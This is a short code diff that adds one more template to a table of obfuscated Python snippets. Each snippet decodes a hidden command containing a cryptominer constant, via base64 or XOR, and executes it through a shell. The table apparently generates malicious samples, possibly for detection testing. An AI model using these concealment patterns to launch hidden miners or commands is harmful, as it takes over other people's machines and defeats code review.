@@ -638,6 +638,10 @@ TABLES = {
     "a key repeated with itertools.cycle": "import itertools, os\n"
         f"cmd = bytes(a ^ b for a, b in zip(bytes.fromhex('{xored(MINER, b'q7')}'), itertools.cycle(b'q7'))).decode()\n"
         "os.system(cmd)",
+    "a class built once inside another function, from a constant": "import base64, subprocess\n"
+        "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
+        "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
+        f"def main():\n    Boot('{b64('cd /tmp' + chr(10) + MINER)}')\nmain()",
     "commands decoded in a class's __init__ from the one constant it is built with": "import base64, subprocess\n"
         "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
         "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
